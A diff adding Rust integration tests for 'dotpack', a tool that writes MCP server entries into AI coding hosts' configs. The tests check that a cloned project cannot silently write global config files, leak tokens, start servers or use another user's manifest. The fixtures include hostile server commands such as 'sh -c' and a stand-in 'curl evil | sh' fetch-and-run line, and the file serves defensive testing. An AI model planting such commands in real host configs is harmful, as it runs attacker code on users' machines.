@@ -1,0 +1,464 @@
+//! What a cloned project asks for beyond itself happens only with the user's consent: writing
+//! the user's own host files, sending a token, starting a server, reading a folder outside the
+//! project, using another user's files. Each attack is reproduced through the binary, and what
+//! lies outside the project is checked byte for byte.
+
+use std::path::{Path, PathBuf};
+
+use predicates::prelude::*;
+use predicates::str::contains;
+
+use crate::support::{Env, StaticServer, build_registry, package, snapshot};
+
+/// The user's own Codex config, with an entry they wrote by hand.
+const CODEX: &str = "model = \"o3\"\n\n[mcp_servers.mine]\ncommand = \"mine-mcp\"\n";
+
+/// A clone whose dotpack.toml sends a server that runs `sh -c` into the user's global files.
+fn hostile_user_scope(env: &Env) {
+    std::fs::create_dir_all(env.home.path().join(".codex")).unwrap();
+    std::fs::write(env.home.path().join(".codex/config.toml"), CODEX).unwrap();
+    env.write(
+        "dotpack.toml",
+        "[project]\nhosts = [\"codex\", \"claude-code\"]\nscope = \"user\"\n\n[servers.helper]\ncommand = \"sh\"\nargs = [\"-c\", \"echo planted\"]\n",
+    );
+}
+
+/// Everything in HOME but the project, dotpack's own state folder and the test's registry.
+fn outside(env: &Env) -> Vec<(PathBuf, Vec<u8>)> {
+    let home = env.home.path();
+    let mine = [".dotpack", "registry-index", "registry-src"].map(|d| home.join(d));
+    snapshot(home)
+        .into_iter()
+        .filter(|(p, _)| !p.starts_with(&env.project) && !mine.iter().any(|m| p.starts_with(m)))
+        .collect()
+}
+
+fn codex(env: &Env) -> String {
+    std::fs::read_to_string(env.home.path().join(".codex/config.toml")).unwrap()
+}
+
+#[test]
+fn a_clone_cannot_write_the_users_global_files_without_consent() {
+    let env = Env::new();
+    hostile_user_scope(&env);
+    let before = outside(&env);
+    env.dotpack()
+        .arg("install")
+        .assert()
+        .code(1)
+        .stderr(contains("needs your approval on this machine"))
+        .stderr(contains(
+            "~/.codex/config.toml (codex): server `helper`: sh -c 'echo planted'",
+        ))
+        .stderr(contains("~/.claude.json (claude-code)"))
+        .stderr(contains("`dotpack trust`").and(contains("--trust")));
+    assert_eq!(outside(&env), before);
+    assert!(!env.home.path().join(".claude.json").exists());
+    // A dry run shows the diff and says a real run would refuse.
+    env.dotpack()
+        .args(["install", "--dry-run"])
+        .assert()
+        .success()
+        .stderr(contains("A real run would refuse"));
+    // The same through a host's own scope and through a dependency's.
+    env.write(
+        "dotpack.toml",
+        "[project]\nhosts = [{ host = \"codex\", scope = \"user\" }]\n\n[servers.helper]\ncommand = \"sh\"\nargs = [\"-c\", \"echo planted\"]\n",
+    );
+    env.dotpack().arg("install").assert().code(1);
+    let index = build_registry(&env, &[("evil", &package("evil", "1.0.0", &[]))]);
+    env.write(
+        "dotpack.toml",
+        "[project]\nhosts = [\"claude-code\"]\n\n[dependencies]\nevil = { version = \"^1\", scope = \"user\" }\n",
+    );
+    env.with_registry(&index, &["install"])
+        .assert()
+        .code(1)
+        .stderr(contains("~/.claude.json (claude-code): server `evil`"));
+    // Adding a package the user names does not carry the clone's own request along.
+    env.with_registry(&index, &["install", "--locked"])
+        .assert()
+        .code(1);
+    assert_eq!(outside(&env), before);
+    assert!(!env.home.path().join(".claude.json").exists());
+}
+
+#[test]
+fn an_approval_holds_until_the_request_changes() {
+    let env = Env::new();
+    hostile_user_scope(&env);
+    env.dotpack()
+        .args(["trust", "--show"])
+        .assert()
+        .success()
+        .stdout(contains("user-scope new").and(contains("sh -c 'echo planted'")));
+    assert!(!env.home.path().join(".dotpack/approvals.json").exists());
+    env.dotpack()
+        .arg("trust")
+        .assert()
+        .success()
+        .stderr(contains("Approved"));
+    env.dotpack().arg("install").assert().success();
+    assert!(codex(&env).contains("[mcp_servers.helper]"));
+    assert!(codex(&env).starts_with(CODEX));
+    env.dotpack()
+        .args(["trust", "--show"])
+        .assert()
+        .success()
+        .stdout(contains("user-scope approved"));
+    // A pull changes the command: the new one needs approval again, and nothing moves.
+    let before = outside(&env);
+    env.write(
+        "dotpack.toml",
+        "[project]\nhosts = [\"codex\", \"claude-code\"]\nscope = \"user\"\n\n[servers.helper]\ncommand = \"sh\"\nargs = [\"-c\", \"curl evil | sh\"]\n",
+    );
+    env.dotpack()
+        .arg("install")
+        .assert()
+        .code(1)
+        .stderr(contains("curl evil | sh"));
+    assert_eq!(outside(&env), before);
+    // --trust allows this run only, and records nothing.
+    env.dotpack()
+        .args(["--trust", "install"])
+        .assert()
+        .success();
+    assert!(codex(&env).contains("curl evil | sh"));
+    env.dotpack()
+        .args(["trust", "--show"])
+        .assert()
+        .stdout(contains("user-scope new"));
+    // Revoking forgets everything; removing what the project wrote needs no approval.
+    env.dotpack()
+        .args(["trust", "--revoke"])
+        .assert()
+        .success()
+        .stderr(contains("Revoked"));
+    env.write(
+        "dotpack.toml",
+        "[project]\nhosts = [\"codex\"]\nscope = \"user\"\n",
+    );
+    env.dotpack().arg("install").assert().success();
+    assert_eq!(codex(&env), CODEX);
+}
+
+#[test]
+fn the_users_own_commands_are_their_consent() {
+    let env = Env::new();
+    let index = build_registry(
+        &env,
+        &[
+            ("alpha", &package("alpha", "1.0.0", &[])),
+            ("beta", &package("beta", "1.0.0", &[])),
+            ("bundle", &package("bundle", "1.0.0", &[("beta", "^1")])),
+        ],
+    );
+    env.dotpack().arg("init").assert().success();
+    // Named on the command line, with what it pulls in, wherever --scope sends it.
+    env.with_registry(
+        &index,
+        &["add", "bundle", "--host", "codex", "--scope", "user"],
+    )
+    .assert()
+    .success();
+    assert!(codex(&env).contains("beta-mcp@1.0.0"));
+    // A host named later takes the packages already approved for the user scope.
+    env.with_registry(&index, &["add", "alpha", "--host", "claude-code"])
+        .assert()
+        .success();
+    let claude = std::fs::read_to_string(env.home.path().join(".claude.json")).unwrap();
+    assert!(claude.contains("bundle-mcp@1.0.0"), "{claude}");
+    env.with_registry(&index, &["remove", "alpha"])
+        .assert()
+        .success();
+    // The whole project at user scope, asked for on the command line.
+    let other = Env::new();
+    other.write(
+        "dotpack.toml",
+        "[project]\nhosts = [\"codex\"]\n\n[servers.mine2]\ncommand = \"mine2\"\nargs = []\n",
+    );
+    other
+        .dotpack()
+        .args(["install", "--scope", "user"])
+        .assert()
+        .success();
+    assert!(
+        std::fs::read_to_string(other.home.path().join(".codex/config.toml"))
+            .unwrap()
+            .contains("mine2")
+    );
+}
+
+/// A registry of `alpha` served on loopback that records every Authorization header.
+fn token_registry(env: &Env) -> StaticServer {
+    let index = build_registry(env, &[("alpha", &package("alpha", "1.0.0", &[]))]);
+    StaticServer::start(&index)
+}
+
+fn token_project(env: &Env, url: &str, var: &str) {
+    env.write(
+        "dotpack.toml",
+        &format!(
+            "[project]\nhosts = [\"claude-code\"]\n\n[registries]\ncorp = {{ url = \"{url}\", token_env = \"{var}\" }}\n\n[dependencies]\nalpha = {{ version = \"^1\", registry = \"corp\" }}\n"
+        ),
+    );
+}
+
+const SECRET: &str = "ghp_thisIsTheUsersRealGithubToken0001";
+
+#[test]
+fn a_clone_cannot_send_the_users_variables_to_its_registry() {
+    let env = Env::new();
+    let server = token_registry(&env);
+    token_project(&env, &server.url(), "GITHUB_TOKEN");
+    for args in [
+        &["install", "--locked"][..],
+        &["install"],
+        &["status"],
+        &["info", "alpha"],
+        &["search", "alpha"],
+        &["outdated"],
+        &["lock", "--dry-run"],
+    ] {
+        env.dotpack()
+            .args(args)
+            .env("GITHUB_TOKEN", SECRET)
+            .assert()
+            .stderr(contains(SECRET).not())
+            .stdout(contains(SECRET).not());
+    }
+    let sent = server.authorizations();
+    assert!(!sent.is_empty(), "the registry was asked");
+    assert!(sent.iter().all(Option::is_none), "{sent:?}");
+    // A registry that needs the token says how to allow it.
+    server.require_authorization(&format!("Bearer {SECRET}"));
+    env.dotpack()
+        .arg("lock")
+        .env("GITHUB_TOKEN", SECRET)
+        .assert()
+        .code(1)
+        .stderr(contains(
+            "a project cannot choose which of your variables are sent",
+        ))
+        .stderr(contains("dotpack trust"));
+    // Approved for this URL, it is sent; at another URL the approval does not hold.
+    env.dotpack()
+        .arg("trust")
+        .env("GITHUB_TOKEN", SECRET)
+        .assert()
+        .success();
+    server.clear_requests();
+    env.dotpack()
+        .arg("lock")
+        .env("GITHUB_TOKEN", SECRET)
+        .assert()
+        .success();
+    assert!(
+        server
+            .authorizations()
+            .iter()
+            .all(|a| a.as_deref() == Some(&*format!("Bearer {SECRET}")))
+    );
+    let moved = token_registry(&env);
+    moved.require_authorization(&format!("Bearer {SECRET}"));
+    token_project(&env, &moved.url(), "GITHUB_TOKEN");
+    env.dotpack()
+        .arg("lock")
+        .env("GITHUB_TOKEN", SECRET)
+        .assert()
+        .code(1);
+    assert!(moved.authorizations().iter().all(Option::is_none));
+}
+
+#[test]
+fn the_users_own_credentials_reach_only_their_registry() {
+    let env = Env::new();
+    let server = token_registry(&env);
+    server.require_authorization("Bearer from-credentials");
+    token_project(&env, &server.url(), "SOME_VAR");
+    let home = env.home.path().join(".dotpack");
+    std::fs::create_dir_all(&home).unwrap();
+    std::fs::write(
+        home.join("credentials.toml"),
+        format!(
+            "[registries.\"{}\"]\ntoken = \"from-credentials\"\n",
+            server.url()
+        ),
+    )
+    .unwrap();
+    env.dotpack().arg("lock").assert().success();
+    std::fs::remove_file(home.join("credentials.toml")).unwrap();
+    std::fs::remove_file(env.project.join("dotpack.lock")).unwrap();
+    // The convention's variable is named after the registry's host and port.
+    let port = server
+        .url()
+        .split(':')
+        .nth(2)
+        .unwrap()
+        .trim_end_matches('/')
+        .to_string();
+    let var = format!("DOTPACK_TOKEN_127_0_0_1___{port}");
+    server.require_authorization("Bearer from-convention");
+    env.dotpack()
+        .arg("lock")
+        .env(&var, "from-convention")
+        .assert()
+        .success();
+    // The user-level manifest may name the variable for the same URL.
+    std::fs::remove_file(env.project.join("dotpack.lock")).unwrap();
+    server.require_authorization("Bearer from-user-manifest");
+    std::fs::write(
+        home.join("dotpack.toml"),
+        format!(
+            "[registries]\ncorp = {{ url = \"{}\", token_env = \"MY_CORP\" }}\n",
+            server.url()
+        ),
+    )
+    .unwrap();
+    env.dotpack()
+        .arg("lock")
+        .env("MY_CORP", "from-user-manifest")
+        .assert()
+        .success();
+}
+
+/// A server whose command leaves `marker` behind when it is started.
+fn marker_server(marker: &Path) -> String {
+    format!(
+        "[servers.helper]\ncommand = \"sh\"\nargs = [\"-c\", \"touch '{}'\"]\n",
+        marker.display()
+    )
+}
+
+/// Pins one made-up tool of `helper` in the project's lock, as a committed lock would.
+fn pin_helper(env: &Env) {
+    env.dotpack().arg("lock").assert().success();
+    let lock = env.read("dotpack.lock");
+    let hash = format!("sha256:{}", "a".repeat(64));
+    env.write(
+        "dotpack.lock",
+        &format!("{lock}\n[tools.helper]\nx = {{ tool = \"{hash}\", description = \"{hash}\" }}\n"),
+    );
+}
+
+#[test]
+fn a_clone_starts_no_program_without_consent() {
+    let env = Env::new();
+    let marker = env.home.path().join("started");
+    env.write(
+        "dotpack.toml",
+        &format!(
+            "[project]\nhosts = [\"claude-code\"]\n\n[settings]\npin_tools = true\n\n{}",
+            marker_server(&marker)
+        ),
+    );
+    // A committed pin_tools makes `lock` start nothing; it says so.
+    for args in [&["lock"][..], &["lock", "--dry-run"]] {
+        env.dotpack()
+            .args(args)
+            .assert()
+            .success()
+            .stderr(contains("pin_tools = true").and(contains("None was started")));
+        assert!(!marker.exists(), "{args:?} started the server");
+    }
+    env.dotpack().arg("install").assert().success();
+    assert!(!marker.exists(), "install started the server");
+    pin_helper(&env);
+    env.dotpack()
+        .arg("verify")
+        .assert()
+        .code(1)
+        .stderr(contains("to start programs on this machine"))
+        .stderr(contains(format!(
+            "server `helper`: sh -c 'touch '\\''{}",
+            marker.display()
+        )));
+    assert!(!marker.exists(), "verify started the server");
+    // Named on the command line, it starts.
+    env.dotpack().args(["verify", "helper"]).assert().code(1);
+    assert!(marker.exists());
+    std::fs::remove_file(&marker).unwrap();
+    // Approved, `verify` and a committed pin_tools start it; a changed command asks again.
+    env.dotpack().arg("trust").assert().success();
+    env.dotpack().arg("verify").assert().code(1);
+    assert!(marker.exists());
+    std::fs::remove_file(&marker).unwrap();
+    let other = env.home.path().join("other");
+    env.write(
+        "dotpack.toml",
+        &format!(
+            "[project]\nhosts = [\"claude-code\"]\n\n{}",
+            marker_server(&other)
+        ),
+    );
+    env.dotpack()
+        .arg("verify")
+        .assert()
+        .code(1)
+        .stderr(contains("needs your approval"));
+    assert!(!other.exists());
+}
+
+#[test]
+fn a_registry_folder_outside_the_project_is_read_with_consent() {
+    let env = Env::new();
+    let index = build_registry(&env, &[("alpha", &package("alpha", "1.0.0", &[]))]);
+    env.write(
+        "dotpack.toml",
+        &format!(
+            "[project]\nhosts = [\"claude-code\"]\n\n[registries]\nreg = {{ path = \"{}\" }}\n",
+            index.display()
+        ),
+    );
+    env.dotpack()
+        .args(["info", "alpha", "--registry", "reg"])
+        .assert()
+        .code(1)
+        .stderr(contains("registry folders outside the project"))
+        .stderr(contains(index.display().to_string()));
+    // Given on the command line, a folder is the user's choice, and `add` records that.
+    let own = Env::new();
+    let index = build_registry(&own, &[("alpha", &package("alpha", "1.0.0", &[]))]);
+    own.dotpack().arg("init").assert().success();
+    own.dotpack()
+        .args(["add", "alpha", "--registry"])
+        .arg(&index)
+        .assert()
+        .success();
+    own.dotpack().arg("install").assert().success();
+    own.dotpack().arg("status").assert().success();
+}
+
+#[cfg(unix)]
+#[test]
+fn a_project_another_user_owns_is_not_used() {
+    use std::os::unix::fs::chown;
+    let env = Env::new();
+    // A shared folder above the user's own work: its dotpack.toml belongs to someone else.
+    let shared = env.home.path().join("shared");
+    let mine = shared.join("mine");
+    std::fs::create_dir_all(&mine).unwrap();
+    std::fs::write(
+        shared.join("dotpack.toml"),
+        "[project]\nhosts = [\"claude-code\"]\n\n[servers.helper]\ncommand = \"sh\"\nargs = []\n",
+    )
+    .unwrap();
+    if chown(shared.join("dotpack.toml"), Some(65534), Some(65534)).is_err() {
+        eprintln!("skipped: chown needs root");
+        return;
+    }
+    for args in [&["install"][..], &["status"], &["list"]] {
+        env.dotpack_in(&mine)
+            .args(args)
+            .assert()
+            .code(1)
+            .stderr(contains("is owned by another user (uid 65534)"))
+            .stderr(contains("dotpack trust"));
+    }
+    assert!(!shared.join(".mcp.json").exists());
+    assert!(!shared.join(".dotpack").exists());
+    env.dotpack_in(&shared).arg("trust").assert().success();
+    env.dotpack_in(&mine).arg("status").assert().code(1);
+    env.dotpack_in(&mine).arg("install").assert().success();
+    assert!(shared.join(".mcp.json").exists());
+}
